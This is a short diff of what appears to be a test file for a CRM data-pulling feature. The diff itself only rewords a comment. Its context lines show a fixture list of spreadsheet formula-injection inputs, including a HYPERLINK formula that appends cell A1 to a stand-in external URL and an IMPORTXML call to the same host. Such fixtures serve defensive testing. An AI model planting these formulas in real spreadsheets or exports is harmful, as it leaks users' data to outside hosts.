@@ -3,7 +3,7 @@ import { allOpportunities, pullWith } from '../support/pulling';
 
 const crm = testCrm();
 
-/** Holds what people, or somebody else through a web form, may have typed into the CRM. */
+/** What people, or somebody else through a web form, may have typed into the CRM. */
 const TEXTS = [
   '=HYPERLINK("https://x.example?"&A1;"Xem")',
   '=IMPORTXML("https://x.example","//a")',
